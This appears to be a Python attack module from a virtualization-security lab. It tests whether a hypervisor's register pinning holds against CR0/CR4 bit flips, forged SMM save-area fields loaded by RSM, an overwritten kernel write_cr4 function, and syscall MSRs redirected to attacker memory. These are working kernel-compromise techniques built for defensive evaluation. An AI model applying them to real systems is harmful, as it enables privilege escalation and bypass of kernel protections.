"""What else a policy can pin: an attack for each pin that the others leave alone."""

from __future__ import annotations

import struct
from functools import partial

from vtlab.client.driver import Driver
from vtlab.client.machine import Machine
from vtlab.client.symbols import Symbols
from vtlab.x86.registers import Cr0, Cr4, Efer, Msr
from vtlab_attacks.control_registers import HEKI, clear_bit
from vtlab_attacks.evidence import Attack, Attempts, Evidence, observe
from vtlab_attacks.smm import CR0, EFER, POKE, POKES, RIP, SAVE_AREA, SEAN_SMM, SMRAM, run_smi
from vtlab_attacks.state import DRIVER_WINDOW, direct, memory, msr, register, show_bytes

SDM = "Intel SDM volume 3, CR0 (CD, NE)"
LOCK_REGS = "LVBS LOCK_REGS"
PATCH_GUARD = 'PatchGuard, "system call MSRs" (Skape, Skywing 2005)'
# STAR[63:32] as selfguard sets them (vtl0_guest/kernels/selfguard/syscalls.c).
SELECTORS = 0x001B_0008
# A segment of AMD64's save area: selector u16, attributes u16 without a gap, limit u32, base u64.
LDTR, TR = 0x70, 0x90
LIMIT, BASE = 4, 8
RETURN = b"\xc3" * 4
CLI_HLT = bytes.fromhex("faf4")


def set_bit(number: int, bit: Cr0 | Cr4, symbol: str) -> partial[Evidence]:
    """Sets one bit of CR0 or CR4 by the code at a symbol."""
    return partial(_set_bit, number, bit, symbol)


def _set_bit(number: int, bit: Cr0 | Cr4, symbol: str, machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    def held() -> int:
        return int(bool(register(machine, f"cr{number}") & bit))

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols[symbol], register(machine, f"cr{number}") | bit)

    return observe(f"CR{number}.{bit.name}", held, steps, symbols, lambda _, after: bool(after))


def write_msr(index: Msr, value: int) -> partial[Evidence]:
    """By the kernel's own WRMSR."""
    return partial(_write_msr, index, value)


def _write_msr(index: Msr, value: int, machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    def steps(attempts: Attempts) -> None:
        attempts.step(driver.call, symbols["wrmsr"], index, value)

    return observe(
        index.name or hex(index), lambda: msr(machine, index), steps, symbols, lambda _, after: after == value, hex
    )


def forge_tr(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """RSM loads the base of a TSS in attacker memory, a copy: stacks of interrupts are the attacker's from then on."""
    copy = symbols["driver_mailbox"]
    driver.copy(copy, machine.registers().tr.base, machine.registers().tr.limit + 1)
    low = struct.unpack("<I", struct.pack("<Q", copy)[:4])[0]

    def steps(attempts: Attempts) -> None:
        run_smi(machine, attempts, POKE, low, SMRAM + SAVE_AREA + TR + BASE)

    return observe("TR base", lambda: machine.registers().tr.base, steps, symbols, lambda _, after: after == copy, hex)


def forge_ldtr(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
    """Two SMIs give LDTR a base in user memory and a limit: descriptors of the attacker's own."""
    base, limit = symbols["user_payload"], 0xFFF

    def steps(attempts: Attempts) -> None:
        for field, value in ((BASE, base), (LIMIT, limit)):
            if not attempts.denials:
                run_smi(machine, attempts, POKE, value, SMRAM + SAVE_AREA + LDTR + field)

    def held() -> tuple[int, int]:
        """No LDT has base 0; its limit is FFFFh after RESET and 0 after LLDT of a null selector, and says nothing."""
        ldtr = machine.registers().ldtr
        return (ldtr.base, ldtr.limit) if ldtr.base else (0, 0)

    return observe(
        "LDTR base and limit",
        held,
        steps,
        symbols,
        lambda _, after: after == (base, limit),
        lambda seen: " ".join(map(hex, seen)),
    )


def overwrite_writer(machine: Machine, driver: Driver, symbols: Symbols) -> Evidence:
    """Through the direct map; nobody executes it here."""
    target = symbols.physical("write_cr4")

    def steps(attempts: Attempts) -> None:
        attempts.step(driver.write_bytes, direct(target), RETURN)

    return observe(
        "code of write_cr4",
        lambda: memory(machine, target, len(RETURN)),
        steps,
        symbols,
        lambda _, after: after == RETURN,
        show_bytes,
    )


def forge_and_stop(name: str, field: int, bit: Cr0 | Efer) -> partial[Evidence]:
    """One SMI forges a register and RIP: without paging, or with NX reserved, no stack and no handler is left, so RSM
    goes to code that needs neither.

    It is CLI and HLT in kernel text: bytes that mean the same in each mode, where VTL0 may execute in each.
    """
    return partial(_forge_and_stop, name, field, bit)


def _forge_and_stop(
    name: str, field: int, bit: Cr0 | Efer, machine: Machine, driver: Driver, symbols: Symbols
) -> Evidence:
    text = symbols.sections[".text"]
    at = text.data.index(CLI_HLT)
    stop = at + (text.physical if bit == Cr0.PG else text.address)
    pairs = [
        (field, register(machine, name) & ~bit & 0xFFFF_FFFF),
        (RIP, stop & 0xFFFF_FFFF),
        (RIP + 4, stop >> 32),
    ]
    listed = b"".join(struct.pack("<II", SMRAM + SAVE_AREA + offset, value) for offset, value in pairs)
    driver.write_bytes(symbols["driver_mailbox"], listed)

    def stopped() -> bool:
        return register(machine, "rip") in range(stop, stop + len(CLI_HLT) + 1)

    def steps(attempts: Attempts) -> None:
        run_smi(machine, attempts, POKES, len(pairs), symbols.physical("driver_mailbox"), stopped)

    return observe(
        f"{name.upper()}.{bit.name}",
        lambda: int(bool(register(machine, name) & bit)),
        steps,
        symbols,
        lambda _, after: not after,
    )


TRANSITION_ATTACKS = [
    Attack(
        "cr0-ne", "Clears CR0.NE: faults of the FPU arrive as an interrupt of the PIC", SDM, clear_bit("cr0", Cr0.NE)
    ),
    Attack("cr0-cache-disabled", "Sets CR0.CD", SDM, set_bit(0, Cr0.CD, "gadget_mov_cr0")),
    Attack("rsm-paging-off", "RSM loads CR0 without PG", SEAN_SMM, forge_and_stop("cr0", CR0, Cr0.PG)),
    Attack("rsm-nxe-off", "RSM loads EFER without NXE", SEAN_SMM, forge_and_stop("efer", EFER, Efer.NXE)),
    Attack("rsm-forged-tr", "RSM moves the TSS to attacker memory", SEAN_SMM, forge_tr),
    Attack("rsm-forged-ldtr", "RSM loads an LDT in user memory", SEAN_SMM, forge_ldtr),
    Attack(
        "cr-writer-unpinned",
        "Sets CR4.TSD, which nobody pins, by the kernel's own function that writes CR4",
        HEKI,
        set_bit(4, Cr4.TSD, "write_cr4"),
    ),
    Attack(
        "text-cr-writers",
        "Overwrites the kernel's function that writes CR4: gone for VTL0, it is code again before VTL1's next start",
        HEKI,
        overwrite_writer,
    ),
    # Other selectors would end the guest at its next interrupt, before or after it answers; so the 32-bit target it is.
    Attack(
        "msr-star",
        "Points SYSCALL of legacy mode at attacker memory",
        PATCH_GUARD,
        write_msr(Msr.STAR, SELECTORS << 32 | DRIVER_WINDOW & 0xFFFF_FFFF),
    ),
    Attack("msr-cstar", "Points CSTAR at attacker memory", PATCH_GUARD, write_msr(Msr.CSTAR, DRIVER_WINDOW)),
    Attack("msr-sfmask", "Has SYSCALL leave IF, DF and AC as they are", LOCK_REGS, write_msr(Msr.SFMASK, 0)),
    Attack("msr-sysenter-cs", "Has SYSENTER load another selector", LOCK_REGS, write_msr(Msr.SYSENTER_CS, 0x18)),
    Attack(
        "msr-sysenter-esp",
        "Has SYSENTER take a stack of the attacker's",
        LOCK_REGS,
        write_msr(Msr.SYSENTER_ESP, DRIVER_WINDOW + 0x1000),
    ),
]
